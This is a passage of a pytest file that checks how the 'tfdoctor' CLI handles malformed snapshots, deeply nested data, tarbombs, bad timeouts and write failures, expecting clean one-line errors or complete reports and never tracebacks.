    assert res.exit_code == 2 and len(res.stderr.strip().splitlines()) == 1, res.output
    assert "seconds above 0" in res.stderr and "Traceback" not in res.output


def test_bench_time_limits_must_be_finite_and_positive():
    res = runner.invoke(app, ["bench", "--timeout", "nan"])
    assert res.exit_code == 2 and "seconds above 0" in res.stderr


@pytest.mark.parametrize("manifest", [
    {**h.MANIFEST, "links": ["not", "an", "object"]},
    {**h.MANIFEST, "exists": {"/dev/nvidia0": "yes"}},
    {**h.MANIFEST, "listings": {"/dev": "nvidia0"}},
])
def test_a_manifest_with_wrong_types_is_a_damaged_snapshot(tmp_path, manifest):
    snap = h.snapshot_dir(tmp_path / "s", manifest=manifest)
    res = runner.invoke(app, ["check", "--from", str(snap), "--no-tf"])
    assert res.exit_code == 2 and "manifest.json" in res.stderr and len(res.stderr.strip().splitlines()) == 1


def test_deep_json_and_deep_tar_paths_are_one_line_not_a_recursion_error(tmp_path):
    snap = h.snapshot_dir(tmp_path / "s", {"nvml.json": "[" * 100_000 + "]" * 100_000})
    res = runner.invoke(app, ["check", "--from", str(snap), "--no-tf"])
    assert res.exit_code == 2 and "nested deeper" in res.stderr and "RecursionError" not in res.output
    deep = h.raw_tar_gz(tmp_path / "deep.tar.gz", [h.manifest_member(), h.member("a/" * 300 + "f", b"x")])
    res = runner.invoke(app, ["check", "--from", str(deep), "--no-tf"])
    assert res.exit_code == 2 and "deeper than" in res.stderr and "RecursionError" not in res.output


def test_lone_surrogates_do_not_stop_a_report_half_way(tmp_path):
    snap = _evil_snapshot(tmp_path)
    for fmt, last in (([], "issues"), (["--markdown"], "</details>"), (["--format", "prometheus"], "tfdoctor_gpu")):
        res = h.tfdoctor("check", "--from", str(snap), "--no-tf", *fmt, env=h.env_with(PYTHONIOENCODING="utf-8"))
        assert res.rc in (0, 1) and "Traceback" not in res.stderr and "Error" not in res.stderr, res.stderr
        assert last in res.stdout.lower().strip().splitlines()[-1] or last in res.stdout  # the report is whole


@pytest.mark.parametrize("flag", ["-o", "--prometheus", "--junit"])
def test_a_write_failure_is_one_plain_line(tmp_path, flag):
    res = runner.invoke(app, ["check", "--from", str(QUADRO), "--no-tf", flag, str(tmp_path)])  # a directory
    assert res.exit_code == 2 and res.stderr.startswith("tfdoctor: cannot write") and "internal error" not in res.output
    assert len(res.stderr.strip().splitlines()) == 1


def test_a_tarbomb_under_timeout_is_exit_2_not_a_hung_driver(tmp_path):
    res = h.tfdoctor("check", "--from", str(h.tarbomb(tmp_path / "b.tar.gz")), "--timeout", "5", "--quiet")
    assert res.rc == 2 and "at most 16 MiB" in res.stderr and "driver call may be hung" not in res.stderr


@pytest.mark.parametrize(("name", "setup", "message"), [
    ("x.zip", None, "unknown snapshot format '.zip'"),
    ("missing/x.tar.gz", None, "does not exist; create it first"),
    ("x.tar.gz", "file", "already exists; nothing was written (pass --force"),
    ("dir", "nonempty", "is not empty"),
])
def test_snapshot_output_is_checked_before_probing(tmp_path, name, setup, message):
    out = tmp_path / name
    if setup == "file":
        out.write_bytes(b"old")
    elif setup == "nonempty":
        out.mkdir()
        (out / "keep").write_text("x")
    res = runner.invoke(app, ["snapshot", "-o", str(out), "--no-tf"])
    assert res.exit_code == 2 and message in res.stderr, res.output
    assert not (tmp_path / "x.zip").exists() and not (tmp_path / "missing").exists()
    if setup == "file":
        assert out.read_bytes() == b"old"


def test_snapshot_force_replaces_an_existing_tarball(tmp_path):
    out = tmp_path / "x.tar.gz"
    out.write_bytes(b"old")
    res = runner.invoke(app, ["snapshot", "-o", str(out), "--no-tf", "--force"])
    assert res.exit_code == 0 and res.stdout.startswith("Replaced snapshot") and tarfile.is_tarfile(out)
